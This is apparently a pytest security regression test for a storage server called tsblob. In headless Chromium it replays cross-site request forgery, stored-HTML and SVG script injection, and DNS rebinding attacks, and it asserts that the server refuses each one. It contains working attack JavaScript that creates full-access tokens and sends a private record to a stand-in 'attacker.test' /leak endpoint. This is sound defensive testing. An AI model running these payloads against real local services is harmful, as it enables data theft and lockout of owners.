"""Issue 27, defect 6, replayed in a real headless Chromium: a page on another site, visited
by the operator of a tokenless tsblob on loopback, tries to use that server through the
browser. Each step must be refused and leave tokens and data unchanged, while the console
(same-origin) keeps working.

The hostile site is a small HTTP server started here on another loopback port, reached as
``127.0.0.1:<port>`` (same-site to the tsblob origin: another port) and as
``attacker.test:<port>`` (cross-site; Chromium maps the name to 127.0.0.1 with
``--host-resolver-rules``, which also stands for DNS rebinding: ``attacker.test:<tsblob
port>`` is the tsblob server under a foreign name). What the attack does, as found:
create a full-access token (locking the owner out), create buckets, batch-write a
``text/html`` record (the content type travels inside the batch framing, which a
``no-cors`` fetch may send), navigate to a stored HTML record so that its script runs in
the server's origin and sends a private record away, and read the API after rebinding.
"""

from __future__ import annotations

import base64
import json
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Iterator, List, Tuple

import pytest

from tsblob._framing import encode_end, encode_record

from test_console import ARGS, CHROMIUM, _missing

if TYPE_CHECKING:
    from conftest import Server

pytestmark = pytest.mark.server

SECRET = b"the-private-record-0123456789"
HTML_TS = 2


class Hostile:
    """The attacker's site: serves the attack page and records what reaches /leak."""

    def __init__(self) -> None:
        self.page = b""
        self.leaks: List[str] = []
        hostile = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                if self.path.startswith("/leak"):
                    hostile.leaks.append(self.path)
                body = hostile.page if self.path.startswith("/attack") else b"ok"
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:  # noqa: N802
                n = int(self.headers.get("Content-Length") or 0)
                hostile.leaks.append(f"{self.path} {self.rfile.read(n)!r}")
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def attack_page(target: str, leak: str) -> bytes:
    """The attack, step by step; each step's outcome as the page saw it in ``window.steps``."""
    batch = b"".join(bytes(p) for p in encode_record(
        3, b"<script>alert(document.domain)</script>", "text/html", None)) + encode_end(1)
    script = """
const T = %(target)s, LEAK = %(leak)s, BATCH = %(batch)s;
const steps = [];
async function attempt(name, url, init) {
  try {
    const r = await fetch(url, Object.assign({mode: "no-cors"}, init));
    steps.push([name, r.type]);
  } catch (e) { steps.push([name, String(e)]); }
}
window.attack = (async () => {
  await attempt("token", T + "/api/v1/tokens/owned",
    {method: "POST", headers: {"Content-Type": "text/plain"}, body: '{"full_access": true}'});
  await attempt("bucket", T + "/api/v1/b/pwned", {method: "POST"});
  await attempt("batch", T + "/api/v1/b/private/page/batch",
    {method: "POST", headers: {"Content-Type": "text/plain"},
     body: Uint8Array.from(atob(BATCH), (c) => c.charCodeAt(0))});
  await attempt("read-no-cors", T + "/api/v1/b/private/e?ts=1", {});
  try {
    const r = await fetch(T + "/api/v1/b/private/e?ts=1");
    const text = await r.text();
    steps.push(["read-cors", text]);
    await fetch(LEAK + "?d=" + encodeURIComponent(text), {mode: "no-cors"});
  } catch (e) { steps.push(["read-cors", String(e)]); }
  await new Promise((done) => {
    const img = new Image();
    img.onload = () => { steps.push(["img", "loaded"]); done(); };
    img.onerror = () => { steps.push(["img", "error"]); done(); };
    img.src = T + "/api/v1/b/private/e?ts=1";
  });
  await new Promise((done) => {
    const frame = document.getElementById("sink");
    frame.onload = () => done();
    document.getElementById("form").submit();
  });
  steps.push(["form", "sent"]);
  return steps;
})();
""" % {"target": json.dumps(target), "leak": json.dumps(leak),
       "batch": json.dumps(base64.b64encode(batch).decode())}
    form = (f'<iframe name="sink" id="sink"></iframe>'
            f'<form id="form" method="POST" action="{target}/api/v1/b/pwned-form" target="sink"'
            f' enctype="text/plain"><input name="x" value="y"></form>')
    return f"<!doctype html><html><body>{form}<script>{script}</script></body></html>".encode()


def api(server: "Server", method: str, path: str, data: bytes = b"", ctype: str = "") -> Tuple[int, bytes]:
    """A request as curl or the SDK sends it (no Origin, no Sec-Fetch-*)."""
    req = urllib.request.Request(server.url + path, data=data or None, method=method)
    if ctype:
        req.add_header("Content-Type", ctype)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


@pytest.fixture
def victim(server, tmp_path: Path) -> Iterator["Server"]:
    """A tokenless server of its own on loopback (the default; the class of the shared
    ``server`` fixture, whose tests must not see this one's changes) with a private record."""
    srv = type(server)(tmp_path / "victim", []).start()
    try:
        assert api(srv, "POST", "/api/v1/b/private")[0] == 201
        assert api(srv, "POST", "/api/v1/b/private/e?ts=1", SECRET, "application/octet-stream")[0] == 201
        yield srv
    finally:
        srv.stop()


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    h = Hostile()
    yield h
    h.close()


@pytest.fixture
def chromium() -> Iterator[object]:
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        _missing("playwright is not installed (pip install playwright)")
    import os
    if not os.path.exists(CHROMIUM):
        _missing(f"no Chromium at {CHROMIUM}")
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM,
                              args=[*ARGS, "--host-resolver-rules=MAP attacker.test 127.0.0.1",
                                    # Chromium's own guard against public pages reaching
                                    # local addresses would hide what tsblob does.
                                    "--disable-features=LocalNetworkAccessChecks"])
        yield b
        b.close()


def state(server: "Server") -> dict:
    """What the attack tried to change, read as the owner (curl) reads it."""
    return {
        "tokens": json.loads(api(server, "GET", "/api/v1/tokens")[1])["tokens"],
        "buckets": sorted(b["name"] for b in json.loads(api(server, "GET", "/api/v1/b")[1])["buckets"]),
        "page_records": api(server, "GET", "/api/v1/b/private/page/query?meta=true")[1].count(b"\n"),
        "me": api(server, "GET", "/api/v1/me")[0],
    }


def leak_html(hostile_url: str) -> bytes:
    return (f"<!doctype html><script>fetch('/api/v1/b/private/e?ts=1').then(r => r.text())"
            f".then(t => fetch('{hostile_url}/leak?d=' + encodeURIComponent(t), {{mode: 'no-cors'}}))"
            f"</script>").encode()


@pytest.mark.parametrize("site", ["same-site", "cross-site"])
def test_a_hostile_page_can_neither_change_nor_read_a_tokenless_server(victim, hostile, chromium, site) -> None:
    host = "127.0.0.1" if site == "same-site" else "attacker.test"
    origin = f"http://{host}:{hostile.port}"
    # A stored HTML record (written by a legitimate client) that would leak if it ran.
    assert api(victim, "POST", f"/api/v1/b/private/page?ts={HTML_TS}", leak_html(origin), "text/html")[0] == 201
    before = state(victim)
    assert before == {"tokens": [], "buckets": ["private"], "page_records": 1, "me": 200}

    hostile.page = attack_page(victim.url, origin + "/leak")
    ctx = chromium.new_context()
    page = ctx.new_page()
    page.set_default_timeout(10_000)
    seen: List[Tuple[str, str, int]] = []
    page.on("response", lambda r: seen.append((r.request.method, r.url, r.status))
            if r.url.startswith(victim.url) else None)
    page.goto(origin + "/attack.html")
    steps = dict(page.evaluate("window.attack"))
    # The browser sent every request (no-cors: the page never learns the answer)...
    assert set(steps) >= {"token", "bucket", "batch", "read-no-cors", "read-cors", "img", "form"}
    # ... and tsblob refused each one: the answers the browser got were all 403.
    assert seen, "no request reached tsblob"
    assert all(status == 403 for _, _, status in seen), seen
    assert SECRET.decode() not in steps["read-cors"]
    assert steps["img"] == "error"

    # Navigating the tab to the stored HTML record (from the hostile page): refused too.
    record = victim.url + f"/api/v1/b/private/page?ts={HTML_TS}"
    with page.expect_response(record) as answer:
        page.evaluate(f"setTimeout(() => {{ location.href = {json.dumps(record)}; }}, 0)")
    assert answer.value.status == 403
    assert "cross_origin" in answer.value.text()
    time.sleep(0.5)
    assert hostile.leaks == []
    assert state(victim) == before
    ctx.close()


def test_a_stored_html_record_opened_directly_does_not_run(victim, hostile, chromium) -> None:
    origin = f"http://127.0.0.1:{hostile.port}"
    assert api(victim, "POST", f"/api/v1/b/private/page?ts={HTML_TS}", leak_html(origin), "text/html")[0] == 201
    assert api(victim, "POST", "/api/v1/b/private/svg?ts=1",
               b'<svg xmlns="http://www.w3.org/2000/svg"><script>'
               + f"fetch('{origin}/leak?svg=1', {{mode: 'no-cors'}})".encode()
               + b"</script></svg>", "image/svg+xml")[0] == 201
    ctx = chromium.new_context(accept_downloads=True)
    page = ctx.new_page()
    page.set_default_timeout(10_000)
    # Typed into the address bar (Sec-Fetch-Site: none): the record downloads, never renders.
    for path in [f"/api/v1/b/private/page?ts={HTML_TS}", "/api/v1/b/private/svg?ts=1"]:
        with page.expect_download() as download:
            try:
                page.goto(victim.url + path)
            except Exception as e:  # Playwright reports the download as a failed navigation
                assert "Download is starting" in str(e), e
        assert download.value.url == victim.url + path
    time.sleep(0.5)
    assert hostile.leaks == []
    ctx.close()


def test_dns_rebinding_reaches_nothing(victim, chromium) -> None:
    port = victim.url.rsplit(":", 1)[1]
    rebound = f"http://attacker.test:{port}"
    ctx = chromium.new_context()
    page = ctx.new_page()
    page.set_default_timeout(10_000)
    # Rebinding: the attacker's DNS first answers with its own server, which serves this
    # page (Playwright answers it here), then with 127.0.0.1: the page's later requests to
    # its own origin, attacker.test:<port>, reach tsblob.
    page.route(f"{rebound}/rebind.html", lambda route: route.fulfill(
        status=200, content_type="text/html", body="<!doctype html><title>rebind</title>"))
    page.goto(f"{rebound}/rebind.html")
    got = page.evaluate("""async () => {
        const r = await fetch('/api/v1/b/private/e?ts=1');
        const w = await fetch('/api/v1/tokens/owned', {method: 'POST', body: '{"full_access": true}'});
        const ui = await fetch('/ui/');
        return [r.status, await r.text(), w.status, ui.status];
    }""")
    assert got[0] == 403 and "host_not_allowed" in got[1] and got[2] == 403 and got[3] == 403, got
    assert SECRET.decode() not in got[1]
    assert state(victim)["tokens"] == []
    ctx.close()


def test_the_console_still_works_on_a_guarded_server(victim, chromium) -> None:
    ctx = chromium.new_context()
    page = ctx.new_page()
    page.set_default_timeout(10_000)
    errors: List[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    for base in [victim.url, victim.url.replace("127.0.0.1", "localhost")]:
        # A state change (PUT settings, with the console's own Origin) and a read.
        page.goto(f"{base}/ui/#/b/private")
        page.wait_for_selector("#settings-form")
        page.fill("#set-block-records", "1000")
        page.click("#settings-save")
        page.wait_for_selector("#settings-status .notice")
        page.goto(f"{base}/ui/#/b/private/e/e")
        page.wait_for_selector("#record-rows tr[data-ts='1']").click()
        page.wait_for_selector("#preview-hex")
        # Delete (click twice) sends DELETE with the console's Origin: accepted.
    page.click("#delete-record")
    page.click("#delete-record")
    page.wait_for_function("() => !document.querySelector(\"#record-rows tr[data-ts='1']\")")
    assert api(victim, "GET", "/api/v1/b/private/e?ts=1")[0] == 404
    assert json.loads(api(victim, "GET", "/api/v1/b/private")[1])["settings"]["max_block_records"] == 1000
    assert errors == []
    ctx.close()
